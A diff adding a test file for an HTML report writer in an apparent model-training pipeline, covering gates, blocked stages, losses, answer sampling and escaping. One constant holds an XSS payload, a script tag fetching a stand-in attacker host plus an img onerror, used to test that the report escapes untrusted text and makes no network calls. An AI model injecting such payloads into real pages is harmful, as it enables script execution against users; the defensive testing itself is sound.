@@ -1,0 +1,240 @@
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Answer, ArtifactManifest, BuildEvent, Gate } from '@cogumi/contracts';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { countMoves, drawAnswers } from './compare-answers.ts';
+import { writeReport } from './write-report.ts';
+
+const RUN = '20260102-030405-small';
+const HOSTILE = '<script>fetch("https://evil.example")</script><img src=x onerror=alert(1)>';
+
+let store: string;
+beforeEach(() => {
+  store = mkdtempSync(join(tmpdir(), 'cogumi-report-'));
+});
+afterEach(() => rmSync(store, { recursive: true, force: true }));
+
+const keyOf = (letter: string) => letter.repeat(64);
+const gate = (name: string, more: Partial<Gate>): Gate => ({
+  name,
+  criterion: `what ${name} means`,
+  threshold: 0.9,
+  measured: 0.95,
+  interval: [0.9123, 0.9765],
+  unit: 'share',
+  evidence: `proof of ${name}`,
+  verdict: 'pass',
+  advice: `mend ${name}`,
+  ...more,
+});
+const answer = (id: string, correct: boolean, text = 'fine'): Answer => ({
+  question_id: id,
+  domain: 'coding',
+  unseen: false,
+  answer: text,
+  tokens: 1,
+  finish: 'stop',
+  correct,
+  reason: correct ? '' : 'no function f is defined',
+});
+
+function putArtifact(key: string, manifest: Partial<ArtifactManifest>, files: Record<string, string>): void {
+  const folder = join(store, 'artifacts', key);
+  mkdirSync(folder, { recursive: true });
+  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text);
+  const whole = {
+    schema: 1,
+    key,
+    kind: 'answers',
+    stage: 'evaluate',
+    stageVersion: 1,
+    options: {},
+    inputs: {},
+    engine: null,
+    gates: [],
+    facts: {},
+    files: Object.entries(files).map(([path, text]) => ({ path, bytes: text.length, sha256: keyOf('0') })),
+    ...manifest,
+  };
+  writeFileSync(join(folder, 'manifest.json'), JSON.stringify(whole));
+}
+
+function putRun(events: readonly BuildEvent[]): void {
+  const folder = join(store, 'runs', RUN);
+  mkdirSync(folder, { recursive: true });
+  writeFileSync(join(folder, 'events.jsonl'), events.map((event) => `${JSON.stringify(event)}\n`).join(''));
+  writeFileSync(join(folder, 'recipe.json'), JSON.stringify({ name: 'small', note: HOSTILE }));
+  const reserved = { id: '1', stage: 'teach', teacher: 'procedural:master', reserved: 0.5, settled: null };
+  const journal = [{ reserve: reserved }, { settle: { id: '1', cost: 0.1234 } }];
+  writeFileSync(join(folder, 'ledger.jsonl'), journal.map((line) => `${JSON.stringify(line)}\n`).join(''));
+}
+
+const jsonl = (rows: readonly object[]) => rows.map((row) => `${JSON.stringify(row)}\n`).join('');
+const score = { questions: 2, correct: 1, accuracy: 0.5, interval: [0.0945, 0.9055] };
+const facts = { all: score, byDomain: { coding: { all: score, known: score, unseen: null } } };
+
+/** Base and modifier on two questions, one training, and a last stage that was blocked. */
+function putSmallRun(): void {
+  const questions = [
+    { question_id: 'q1', question: `What is ${HOSTILE}?` },
+    { question_id: 'q2', question: 'And two?' },
+  ];
+  putArtifact(keyOf('a'), { kind: 'questions', stage: 'questions' }, { 'questions.jsonl': jsonl(questions) });
+  putArtifact(
+    keyOf('b'),
+    { inputs: { questions: keyOf('a') }, facts },
+    { 'answers.jsonl': jsonl([answer('q1', false, HOSTILE), answer('q2', true)]) },
+  );
+  putArtifact(
+    keyOf('c'),
+    { inputs: { questions: keyOf('a'), against: keyOf('b') }, facts },
+    { 'answers.jsonl': jsonl([answer('q1', true), answer('q2', false)]) },
+  );
+  const losses = [
+    { step: 0, kind: 'validation', loss: 2 },
+    { step: 1, kind: 'train', loss: 1.9 },
+    { step: 5, kind: 'validation', loss: 1.25 },
+  ];
+  putArtifact(keyOf('d'), { kind: 'adapter', stage: 'train' }, { 'losses.jsonl': jsonl(losses) });
+  const stages = ['questions', 'evaluate.base', 'code.train', 'code.evaluate', 'bundle', 'validate'];
+  const began = (stage: string, letter: string): BuildEvent => ({
+    event: 'stage-start',
+    at: 1000,
+    stage,
+    key: keyOf(letter),
+  });
+  const ended = (stage: string, outcome: 'done' | 'cached' | 'blocked', message = ''): BuildEvent => ({
+    event: 'stage-end',
+    at: 4000,
+    stage,
+    outcome,
+    elapsedMs: 3000,
+    message,
+  });
+  const judged = (stage: string, one: Gate, overridden = false): BuildEvent => ({
+    event: 'gate-judged',
+    at: 3000,
+    stage,
+    gate: one,
+    overridden,
+  });
+  putRun([
+    { event: 'build-start', at: 1000, run: RUN, recipe: 'small', stages },
+    began('questions', 'a'),
+    ended('questions', 'cached'),
+    began('evaluate.base', 'b'),
+    { event: 'stage-warning', at: 2000, stage: 'evaluate.base', message: `mind ${HOSTILE}` },
+    judged('evaluate.base', gate('good', {})),
+    judged('evaluate.base', gate('unsure', { verdict: 'inconclusive', threshold: 0.9321 }), true),
+    ended('evaluate.base', 'done'),
+    began('code.train', 'd'),
+    ended('code.train', 'done'),
+    began('code.evaluate', 'c'),
+    judged('code.evaluate', gate('bad', { verdict: 'fail', measured: 0.4444, interval: [0.4111, 0.4888] })),
+    ended('code.evaluate', 'done'),
+    began('bundle', 'e'),
+    ended('bundle', 'blocked', 'it stands on the failed gate code.evaluate/bad'),
+    {
+      event: 'build-end',
+      at: 9000,
+      outcome: 'gate-failed',
+      elapsedMs: 8000,
+      peakMemoryBytes: 1.5e9,
+      bundle: null,
+      digest: null,
+    },
+  ]);
+}
+
+const report = async () => readFileSync(await writeReport(store, RUN), 'utf8');
+
+describe('writeReport', () => {
+  it('holds every gate with its figures, evidence, verdict and, where it did not pass, advice', async () => {
+    putSmallRun();
+    const page = await report();
+    for (const text of ['0.95', '0.9123 – 0.9765', '0.9321', '0.4444', '0.4111 – 0.4888', 'what bad means'])
+      expect(page).toContain(text);
+    for (const name of ['good', 'unsure', 'bad']) expect(page).toContain(`proof of ${name}`);
+    expect(page).toContain('mend bad');
+    expect(page).toContain('mend unsure');
+    expect(page).not.toContain('mend good');
+    expect(page).toContain('1 of 3');
+    // Once in the summary at the top, once in the table.
+    expect(page.match(/>OVERRIDDEN</g)).toHaveLength(2);
+  });
+
+  it('says what was not made and why', async () => {
+    putSmallRun();
+    const page = await report();
+    expect(page).toContain('bundle, validate');
+    expect(page).toContain('blocked: it stands on the failed gate code.evaluate/bad');
+    expect(page).toContain('not started');
+  });
+
+  it('shows answers side by side, spend, losses and memory', async () => {
+    putSmallRun();
+    const page = await report();
+    expect(page).toMatch(/Against base: <b[^>]*>1<\/b> became right, <b[^>]*>1<\/b> became wrong/);
+    expect(page).toContain('no function f is defined');
+    expect(page).toContain('0.1234');
+    expect(page).toContain('validation 1.25');
+    expect(page).toContain('1.50 GB');
+  });
+
+  it('escapes what models, recipes and warnings say', async () => {
+    putSmallRun();
+    const page = await report();
+    expect(page).not.toMatch(/<script|<img/i);
+    expect(page.match(/&lt;script&gt;/g)?.length).toBeGreaterThanOrEqual(4);
+  });
+
+  it('asks nothing of the network', async () => {
+    putSmallRun();
+    const page = await report();
+    // Every address-bearing attribute leads into the page itself or into a data URL.
+    for (const [, address] of page.matchAll(/\s(?:src|href|srcset|action|data|poster)="([^"]*)"/g))
+      expect(address).toMatch(/^(#|data:)/);
+    expect(page).not.toMatch(/url\(|@import/);
+    expect(page).toContain(`default-src 'none'`);
+  });
+
+  it('leaves out sections without data, and names files it could not read', async () => {
+    putSmallRun();
+    writeFileSync(join(store, 'artifacts', keyOf('c'), 'answers.jsonl'), '{"cut');
+    rmSync(join(store, 'artifacts', keyOf('d')), { recursive: true });
+    const page = await report();
+    for (const title of ['Router', 'Served', 'Loss', 'Before and after']) expect(page).not.toContain(`<h2>${title}`);
+    expect(page).toContain('<h2>Not readable');
+    expect(page).toContain('code.evaluate/answers.jsonl');
+  });
+
+  it('reports a build that was killed before it planned anything', async () => {
+    putRun([]);
+    expect(await report()).toContain('unfinished');
+  });
+});
+
+describe('drawAnswers', () => {
+  const many = Array.from({ length: 300 }, (_, at) => answer(`q${at}`, at % 2 === 0));
+
+  it('draws the same ones whatever their order', () => {
+    const ids = (answers: readonly Answer[]) => drawAnswers(answers, 12).map(({ question_id }) => question_id);
+    expect(ids(many)).toHaveLength(12);
+    expect(ids(many.toReversed())).toEqual(ids(many));
+  });
+
+  it('does not fall in step with the order of kinds: of 300 that take turns, a third to two thirds of 60 are right', () => {
+    const right = drawAnswers(many, 60).filter(({ correct }) => correct).length;
+    expect(right).toBeGreaterThan(20);
+    expect(right).toBeLessThan(40);
+  });
+});
+
+describe('countMoves', () => {
+  it('compares by question and ignores what only one was asked', () => {
+    const before = [answer('a', true), answer('b', true), answer('c', false), answer('d', false), answer('e', true)];
+    const after = [answer('d', false), answer('c', true), answer('b', false), answer('a', true), answer('x', true)];
+    expect(countMoves(before, after)).toEqual({ gained: 1, lost: 1, bothRight: 1, bothWrong: 1 });
+  });
+});
